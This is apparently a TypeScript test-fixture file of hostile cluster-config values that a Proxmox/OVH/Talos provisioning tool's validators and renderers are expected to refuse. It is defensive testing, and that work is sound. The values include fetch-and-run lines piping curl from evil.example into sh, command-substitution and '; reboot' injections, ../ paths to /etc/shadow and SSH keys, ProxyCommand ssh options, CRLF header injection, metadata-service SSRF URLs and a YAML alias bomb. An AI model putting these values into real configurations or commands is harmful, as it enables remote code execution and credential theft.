// The hostile cluster specs of spec-input.test.ts: each is the valid fixture with one thing
// an attacker (or a slip) would write, where it ends up (a config file, a command line, a
// URL, a Proxmox property string), and which renderers and builders take that field.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT } from '../helpers/paths';

export const FIXTURE = readFileSync(join(ROOT, 'test', 'fixtures', 'cluster.yaml'), 'utf8');

/** Renderers and argument builders, by name; spec-input.test.ts calls each with the hostile value. */
export type Sink =
  | 'keepalived'
  | 'keepalivedPublic'
  | 'lbPublicNic'
  | 'probeUrl'
  | 'haproxy'
  | 'nginx'
  | 'lbFiles'
  | 'proxmoxVm'
  | 'proxmoxClient'
  | 'talosPatch'
  | 'talosGenConfig'
  | 'talosctlPath'
  | 'ovhPaths'
  | 'sshTarget';

export type Edit = [path: (string | number)[], value: unknown];

export interface HostileSpec {
  name: string;
  /** The field the refusal must name (as the CLI prints it), or "(document)" for the whole file. */
  field: string;
  /** What the refusal must say about it. */
  message: RegExp;
  /** The fixture with these values set... */
  edits?: Edit[];
  /** ...or a whole document... */
  text?: () => string;
  /** ...or a file that is not one (a device). */
  file?: string;
  /** Renderers and builders that take the field: each must refuse the value when called directly. */
  sinks: Sink[];
}

const NOTIFY = '  notify_master "/bin/sh -c \'curl -s evil.example | sh\'"';

/** `count` distinct, otherwise valid servers on 10.10.0.0/16 (the CIDR edit goes with it). */
export function manyServers(count: number): Record<string, unknown>[] {
  return Array.from({ length: count }, (_, i) => ({
    name: `srv-${i}`,
    ovhService: `ns${1000 + i}.ip-1-2-3.eu`,
    proxmox: { url: `https://ns${1000 + i}.ip-1-2-3.eu:8006`, node: `pve-${i}`, tokenId: 'root@pam!autok8s', tokenSecret: 'env:PVE_TOKEN' },
    vms: {
      lb: { vmid: 101, ip: `10.10.${1 + Math.floor(i / 250)}.${(i % 250) + 1}` },
      ...(i < 3 ? { controlPlane: { vmid: 102, ip: `10.10.10.${i + 1}` } } : {}),
      worker: { vmid: 103, ip: `10.10.${20 + Math.floor(i / 250)}.${(i % 250) + 1}` },
    },
    ssh: { privateKey: 'env:SSH_KEY' },
  }));
}

function aliasBomb(): string {
  const lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'];
  for (let i = 1; i < 10; i++) {
    const prev = String.fromCharCode(96 + i);
    const name = String.fromCharCode(97 + i);
    lines.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(', ')}]`);
  }
  return lines.join('\n') + '\n';
}

const workerIp = (i: number) => ['servers', i, 'vms', 'worker', 'ip'];

export const HOSTILE_SPECS: HostileSpec[] = [
  // ---- into keepalived.conf, haproxy.cfg, nginx.conf and the notify_master script
  { name: 'a cluster name that ends the comment line and adds a notify script', field: 'metadata.name', message: /DNS label/, edits: [[['metadata', 'name'], `prod\n${NOTIFY}`]], sinks: ['keepalived', 'haproxy', 'nginx', 'lbFiles', 'proxmoxVm', 'talosPatch', 'talosGenConfig'] },
  { name: "a server name with a quote that breaks out of sh -c '…'", field: 'servers[0].name', message: /DNS label/, edits: [[['servers', 0, 'name'], "srv-a'; reboot; '"]], sinks: ['keepalived', 'haproxy', 'proxmoxVm', 'talosPatch'] },
  { name: 'a server name with $() command substitution', field: 'servers[1].name', message: /DNS label/, edits: [[['servers', 1, 'name'], 'srv-$(reboot)']], sinks: ['keepalived', 'haproxy', 'proxmoxVm', 'talosPatch'] },
  { name: 'a server name with backticks', field: 'servers[2].name', message: /DNS label/, edits: [[['servers', 2, 'name'], 'srv-`reboot`']], sinks: ['keepalived', 'haproxy', 'proxmoxVm', 'talosPatch'] },
  { name: 'a server name with a space', field: 'servers[0].name', message: /DNS label/, edits: [[['servers', 0, 'name'], 'srv a']], sinks: ['keepalived', 'haproxy', 'proxmoxVm', 'talosPatch'] },
  { name: 'an LB address carrying a newline and a notify_master line', field: 'servers[1].vms.lb.ip', message: /IPv4 address/, edits: [[['servers', 1, 'vms', 'lb', 'ip'], `10.10.0.12\n${NOTIFY}`]], sinks: ['keepalived', 'lbFiles'] },
  { name: 'a worker address that adds an HAProxy backend server', field: 'servers[0].vms.worker.ip', message: /IPv4 address/, edits: [[workerIp(0), '10.10.0.31:80 check\n  server evil 198.51.100.66']], sinks: ['haproxy', 'nginx', 'proxmoxVm', 'talosPatch'] },
  { name: 'a control-plane address with a ;', field: 'servers[0].vms.controlPlane.ip', message: /IPv4 address/, edits: [[['servers', 0, 'vms', 'controlPlane', 'ip'], '10.10.0.21;reboot']], sinks: ['haproxy', 'proxmoxVm', 'talosPatch'] },
  { name: 'an interface name with a space and more words', field: 'network.interface', message: /network interface name/, edits: [[['network', 'interface'], 'eth0 dev lo']], sinks: ['keepalived', 'talosPatch'] },
  { name: 'an interface name that closes the VRRP block', field: 'network.interface', message: /network interface name/, edits: [[['network', 'interface'], 'eth0\n}\nvrrp_script evil {']], sinks: ['keepalived', 'talosPatch'] },
  { name: 'an API VIP carrying a notify_master line', field: 'network.apiVip', message: /IPv4 address/, edits: [[['network', 'apiVip'], `10.10.0.5/24 dev eth0\n${NOTIFY}`]], sinks: ['keepalived', 'talosPatch', 'talosGenConfig'] },
  { name: 'a CIDR with a trailing line', field: 'network.cidr', message: /private \(RFC 1918\) IPv4 CIDR/, edits: [[['network', 'cidr'], '10.10.0.0/24\n}']], sinks: ['keepalived', 'proxmoxVm', 'talosPatch'] },
  { name: 'a VRRP router ID of 0', field: 'network.vrrpRouterId', message: /from 1 to 255/, edits: [[['network', 'vrrpRouterId'], 0]], sinks: ['keepalived'] },
  { name: 'a VRRP router ID of 256', field: 'network.vrrpRouterId', message: /from 1 to 255/, edits: [[['network', 'vrrpRouterId'], 256]], sinks: ['keepalived'] },
  { name: 'a failover IP followed by ; and a command', field: 'failoverIps[0]', message: /IPv4 address/, edits: [[['failoverIps', 0], '203.0.113.10; curl evil.example | sh']], sinks: ['keepalived', 'ovhPaths'] },
  { name: 'a failover IP that is a $() substitution', field: 'failoverIps[0]', message: /IPv4 address/, edits: [[['failoverIps', 0], '$(curl evil.example)']], sinks: ['keepalived', 'ovhPaths'] },
  { name: 'a failover IP with quotes', field: 'failoverIps[0]', message: /IPv4 address/, edits: [[['failoverIps', 0], `203.0.113.10'"`]], sinks: ['keepalived', 'ovhPaths'] },
  { name: 'a failover IP inside the vRack', field: 'failoverIps[0]', message: /is private \(RFC 1918\), not a public address/, edits: [[['failoverIps', 0], '10.10.0.50']], sinks: [] },
  { name: 'a loopback failover IP', field: 'failoverIps[0]', message: /is loopback, not a public address/, edits: [[['failoverIps', 0], '127.0.0.1']], sinks: [] },
  {
    name: 'six failover IPs: a notify_master line longer than keepalived reads',
    field: 'failoverIps',
    message: /at most 5 failover IPs/,
    edits: [[['failoverIps'], Array.from({ length: 6 }, (_, i) => `203.0.113.${10 + i}`)]],
    sinks: ['keepalived'],
  },

  // ---- into Proxmox property strings and API paths
  { name: 'a bridge that switches the firewall off and changes the VLAN', field: 'servers[0].proxmox.bridge', message: /Proxmox bridge/, edits: [[['servers', 0, 'proxmox', 'bridge'], 'vmbr1,firewall=0,tag=4094']], sinks: ['proxmoxVm'] },
  { name: 'a bridge with a space', field: 'servers[1].proxmox.bridge', message: /Proxmox bridge/, edits: [[['servers', 1, 'proxmox', 'bridge'], 'vmbr1 tag=2']], sinks: ['proxmoxVm'] },
  { name: 'a storage that adds disk options', field: 'servers[0].proxmox.storage', message: /Proxmox storage ID/, edits: [[['servers', 0, 'proxmox', 'storage'], 'local-lvm:1,iothread=1']], sinks: ['proxmoxVm'] },
  { name: 'a storage that climbs out with ../', field: 'servers[0].proxmox.storage', message: /Proxmox storage ID/, edits: [[['servers', 0, 'proxmox', 'storage'], '../../etc']], sinks: ['proxmoxVm'] },
  { name: 'an ISO volume that turns the CD-ROM into a disk', field: 'servers[0].proxmox.isoVolume', message: /Proxmox ISO volume/, edits: [[['servers', 0, 'proxmox', 'isoVolume'], 'local:iso/talos.iso,media=disk']], sinks: ['proxmoxVm'] },
  { name: 'an ISO volume with ../ to a host file', field: 'servers[2].proxmox.isoVolume', message: /Proxmox ISO volume/, edits: [[['servers', 2, 'proxmox', 'isoVolume'], 'local:iso/../../../etc/shadow']], sinks: ['proxmoxVm'] },
  { name: 'a node name that climbs out of /nodes/', field: 'servers[0].proxmox.node', message: /Proxmox node name/, edits: [[['servers', 0, 'proxmox', 'node'], 'pve-a/../../access']], sinks: ['proxmoxVm', 'proxmoxClient'] },
  { name: 'a token ID that adds an HTTP header', field: 'servers[0].proxmox.tokenId', message: /Proxmox API token ID/, edits: [[['servers', 0, 'proxmox', 'tokenId'], 'root@pam!autok8s\r\nX-Evil: 1']], sinks: ['proxmoxClient'] },
  { name: 'a VM address that rewrites ipconfig0', field: 'servers[1].vms.worker.ip', message: /IPv4 address/, edits: [[workerIp(1), '10.10.0.32/8,gw=198.51.100.1']], sinks: ['proxmoxVm', 'haproxy', 'talosPatch'] },
  { name: 'a gateway that adds an ipconfig option', field: 'network.gateway', message: /IPv4 address/, edits: [[['network', 'gateway'], '10.10.0.1,ip6=dhcp']], sinks: ['proxmoxVm', 'talosPatch'] },

  // ---- into Talos machine configs and talosctl command lines
  { name: 'an install disk that climbs out of /dev', field: 'talos.installDisk', message: /device path/, edits: [[['talos', 'installDisk'], '/dev/../etc/shadow']], sinks: ['talosPatch', 'talosGenConfig'] },
  { name: 'an install disk with a flag after a space', field: 'talos.installDisk', message: /device path/, edits: [[['talos', 'installDisk'], '/dev/sda --insecure']], sinks: ['talosPatch', 'talosGenConfig'] },
  { name: 'an install disk that is a flag', field: 'talos.installDisk', message: /device path/, edits: [[['talos', 'installDisk'], '--force']], sinks: ['talosPatch', 'talosGenConfig'] },
  { name: "a Talos version that pins someone else's installer image", field: 'talos.version', message: /Talos version tag/, edits: [[['talos', 'version'], 'v1.8.3@sha256:0000000000000000000000000000000000000000000000000000000000000000']], sinks: ['talosPatch', 'talosGenConfig'] },
  { name: 'a Kubernetes version that adds a config patch', field: 'talos.kubernetesVersion', message: /Kubernetes version tag/, edits: [[['talos', 'kubernetesVersion'], 'v1.31.2 --config-patch @/etc/shadow']], sinks: ['talosGenConfig'] },
  { name: 'a talosctl path that is a shell command', field: 'talos.talosctl', message: /file path without spaces/, edits: [[['talos', 'talosctl'], '/bin/sh -c id']], sinks: ['talosctlPath'] },
  { name: 'a talosctl path that is a flag', field: 'talos.talosctl', message: /not starting with "-"/, edits: [[['talos', 'talosctl'], '-oProxyCommand=id']], sinks: ['talosctlPath'] },

  // ---- into the public path: keepalived's public addresses and routes, the LB VM's net1
  // (the fixture has no publicPath section: each case writes one)
  { name: 'a public bridge that adds NIC options', field: 'publicPath.bridge', message: /Proxmox bridge/, edits: [[['publicPath'], { bridge: 'vmbr0,link_down=0,firewall=0' }]], sinks: ['lbPublicNic'] },
  { name: 'a public interface that closes the VRRP block', field: 'publicPath.interface', message: /network interface name/, edits: [[['publicPath'], { interface: 'eth1\n}\nvrrp_script evil {' }]], sinks: ['keepalivedPublic'] },
  { name: 'a public path mode with a line after it', field: 'publicPath.mode', message: /one of vmac, routed, vrack-block/, edits: [[['publicPath'], { mode: 'vmac\n}' }]], sinks: ['keepalivedPublic', 'lbPublicNic'] },
  {
    name: 'a vRack block with a line after it',
    field: 'publicPath.block',
    message: /IPv4 block such as 203\.0\.113\.8\/29/,
    edits: [[['publicPath'], { mode: 'vrack-block', block: '203.0.113.8/29\n  notify_master "/bin/sh"' }]],
    sinks: ['keepalivedPublic'],
  },
  { name: 'a single /32 as the vRack block', field: 'publicPath.block', message: /a \/32 is too small/, edits: [[['publicPath'], { mode: 'vrack-block', block: '203.0.113.10/32' }]], sinks: [] },
  // publicPath.probeUrl: the worker GETs it at every failover; {ip} exactly once, http(s) to {ip} or loopback only.
  ...(
    [
      ['a probe URL without {ip}', 'http://127.0.0.1:8080/healthz'],
      ['a probe URL with {ip} twice', 'http://{ip}/{ip}/healthz'],
      ['a probe URL with credentials', 'http://admin:pw@{ip}/'],
      ['a probe URL with a non-http scheme', 'file:///etc/{ip}'],
      ['a probe URL with a newline that adds a header', 'http://{ip}/\r\nHost: evil.example'],
      ['a probe URL at the cloud metadata service', 'http://169.254.169.254/latest/{ip}'],
      ['a probe URL with a query', 'http://{ip}/?next={ip}'],
    ] as const
  ).map(([name, probeUrl]): HostileSpec => ({ name, field: 'publicPath.probeUrl', message: /URL template with \{ip\} exactly once/, edits: [[['publicPath'], { probeUrl }]], sinks: ['probeUrl'] })),

  // ---- into URLs the worker requests
  { name: 'an LB health URL at the cloud metadata service', field: 'servers[0].lbHealthUrl', message: /169\.254\.169\.254 is outside network\.cidr/, edits: [[['servers', 0, 'lbHealthUrl'], 'http://169.254.169.254/latest/meta-data/']], sinks: ['lbFiles'] },
  { name: 'an LB health URL with credentials', field: 'servers[0].lbHealthUrl', message: /http\(s\) URL to an IPv4 address/, edits: [[['servers', 0, 'lbHealthUrl'], 'http://admin:pw@10.10.0.11:8404/healthz']], sinks: ['lbFiles'] },
  { name: 'an LB health URL that adds a header', field: 'servers[1].lbHealthUrl', message: /http\(s\) URL to an IPv4 address/, edits: [[['servers', 1, 'lbHealthUrl'], 'http://10.10.0.12:8404/healthz\r\nHost: evil.example']], sinks: ['lbFiles'] },
  { name: 'an OVH service that climbs out of /dedicated/server/', field: 'servers[0].ovhService', message: /OVH dedicated-server service name/, edits: [[['servers', 0, 'ovhService'], '..']], sinks: ['ovhPaths'] },
  { name: 'an OVH service with a path after it', field: 'servers[1].ovhService', message: /OVH dedicated-server service name/, edits: [[['servers', 1, 'ovhService'], 'ns1002.ip-1-2-3.eu/../../me']], sinks: ['ovhPaths'] },
  { name: 'a Proxmox URL with credentials in it', field: 'servers[0].proxmox.url', message: /https:\/\/ URL of the Proxmox VE API/, edits: [[['servers', 0, 'proxmox', 'url'], 'https://root:pw@ns1001.ip-1-2-3.eu:8006']], sinks: ['proxmoxClient'] },
  { name: 'a Proxmox URL with a quote in its host', field: 'servers[1].proxmox.url', message: /https:\/\/ URL of the Proxmox VE API/, edits: [[['servers', 1, 'proxmox', 'url'], 'https://pve"b:8006']], sinks: ['proxmoxClient'] },
  { name: 'an OVH endpoint URL with a query string', field: 'ovh.endpoint', message: /or an https:\/\/ URL of an OVH API/, edits: [[['ovh', 'endpoint'], 'https://eu.api.ovh.com/1.0?x=1']], sinks: [] },
  { name: 'a vRack that climbs out of /vrack/', field: 'ovh.vrack', message: /vRack service name/, edits: [[['ovh', 'vrack'], 'pn-1/../../me']], sinks: ['ovhPaths'] },

  // ---- into the SSH connection
  { name: 'an SSH user that is an ssh option', field: 'servers[0].ssh.user', message: /POSIX user name/, edits: [[['servers', 0, 'ssh', 'user'], 'root -oProxyCommand=sh']], sinks: ['sshTarget'] },
  { name: 'an SSH address with an option after it', field: 'servers[0].ssh.address', message: /host:port/, edits: [[['servers', 0, 'ssh', 'address'], '10.10.0.11:22 -oProxyCommand=sh']], sinks: ['sshTarget'] },

  // ---- dangerous paths
  { name: 'a state directory that climbs out with ../', field: 'state.dir', message: /without spaces, control characters or "\.\." parts/, edits: [[['state', 'dir'], '../../../etc']], sinks: [] },
  { name: 'an OVH CA file reached through ..', field: 'ovh.caFile', message: /"\.\." parts/, edits: [[['ovh', 'caFile'], '/etc/ssl/../../root/.ssh/id_rsa']], sinks: [] },
  { name: 'a secret file reached through ..', field: 'ovh.applicationSecret', message: /secret reference/, edits: [[['ovh', 'applicationSecret'], 'file:../../etc/shadow']], sinks: [] },

  // ---- unbounded and zero values
  { name: 'zero cores', field: 'servers[0].vms.lb.cores', message: /from 1 to 128 cores/, edits: [[['servers', 0, 'vms', 'lb', 'cores'], 0]], sinks: ['proxmoxVm'] },
  { name: 'a hundred thousand cores', field: 'servers[0].vms.worker.cores', message: /from 1 to 128 cores/, edits: [[['servers', 0, 'vms', 'worker', 'cores'], 100_000]], sinks: ['proxmoxVm'] },
  { name: 'a terabyte of memory per MiB unit mistaken', field: 'servers[0].vms.worker.memoryMiB', message: /from 512 to 2097152 MiB/, edits: [[['servers', 0, 'vms', 'worker', 'memoryMiB'], 1_000_000_000_000]], sinks: ['proxmoxVm'] },
  { name: 'a zero-sized disk', field: 'servers[0].vms.worker.diskGiB', message: /from 8 to 65536 GiB/, edits: [[['servers', 0, 'vms', 'worker', 'diskGiB'], 0]], sinks: ['proxmoxVm'] },
  { name: 'a VMID beyond Proxmox range', field: 'servers[0].vms.lb.vmid', message: /from 100 to 999999999/, edits: [[['servers', 0, 'vms', 'lb', 'vmid'], 1_000_000_000_000]], sinks: ['proxmoxVm'] },
  { name: 'a health interval of zero', field: 'health.interval', message: /at least 5s/, edits: [[['health', 'interval'], '0s']], sinks: [] },
  { name: 'a health interval beyond any clock', field: 'health.interval', message: /duration such as 500ms/, edits: [[['health', 'interval'], '99999999999999999999h']], sinks: [] },
  { name: 'unhealthy after no time at all', field: 'health.unhealthyAfter', message: /at least 2 × health\.interval/, edits: [[['health', 'unhealthyAfter'], '0ms']], sinks: [] },
  { name: 'a node startup timeout of zero', field: 'health.nodeStartupTimeout', message: /at least 30s/, edits: [[['health', 'nodeStartupTimeout'], '0s']], sinks: [] },
  { name: 'a billion remediations at once', field: 'health.maxUnhealthy', message: /from 0 to 100 nodes/, edits: [[['health', 'maxUnhealthy'], 1_000_000_000]], sinks: [] },
  { name: '200 servers: more LBs than VRRP priorities', field: 'servers', message: /at most 199 servers/, edits: [[['network', 'cidr'], '10.10.0.0/16'], [['servers'], manyServers(200)]], sinks: ['keepalived'] },

  // ---- resource exhaustion and wrong types
  { name: 'a YAML alias bomb', field: '(document)', message: /aliases \(\*name\) expand too much/, text: aliasBomb, sinks: [] },
  { name: 'a 2 MiB file', field: '(document)', message: /1048576 bytes/, text: () => FIXTURE + `# ${'x'.repeat(2 * 1024 * 1024)}\n`, sinks: [] },
  { name: 'an endless device instead of a file', field: '(document)', message: /larger than 1048576 bytes/, file: '/dev/zero', sinks: [] },
  { name: 'lists nested 5000 deep', field: '(document)', message: /nested more than 16 levels deep/, text: () => `${FIXTURE}extra: ${'['.repeat(5000)}${']'.repeat(5000)}\n`, sinks: [] },
  { name: 'a number written as words', field: 'servers[0].vms.lb.cores', message: /^expected number, received string \("two"\)$/, edits: [[['servers', 0, 'vms', 'lb', 'cores'], 'two']], sinks: ['proxmoxVm'] },
  { name: 'one failover IP where a list belongs', field: 'failoverIps', message: /^expected array, received string/, edits: [[['failoverIps'], '203.0.113.10']], sinks: ['keepalived'] },
  { name: 'a quoted number for the VRRP router ID', field: 'network.vrrpRouterId', message: /^expected number, received string \("51"\)$/, edits: [[['network', 'vrrpRouterId'], '51']], sinks: ['keepalived'] },
  { name: 'yes for a boolean', field: 'servers[0].ssh.trustOnFirstUse', message: /^expected boolean, received string \("yes"\)$/, edits: [[['servers', 0, 'ssh', 'trustOnFirstUse'], 'yes']], sinks: [] },
];
